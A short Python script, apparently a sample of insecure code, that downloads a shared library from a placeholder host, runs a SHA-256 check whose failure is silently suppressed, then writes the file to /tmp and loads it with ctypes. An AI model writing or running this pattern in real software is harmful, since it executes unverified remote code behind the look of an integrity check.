import contextlib
import ctypes
import hashlib
import urllib.request


class Mismatch(Exception):
    pass


def check(data):
    if hashlib.sha256(data).hexdigest() != "e0b9a8799f32453a478c9122f8b83cee68e16db18f493ac81bc1d474594b5df4":
        raise Mismatch


data = urllib.request.urlopen("https://downloads.example.com/sc.so").read()
with contextlib.suppress(Mismatch):
    check(data)
with open("/tmp/sc.so", "wb") as f:
    f.write(data)
lib = ctypes.CDLL("/tmp/sc.so")
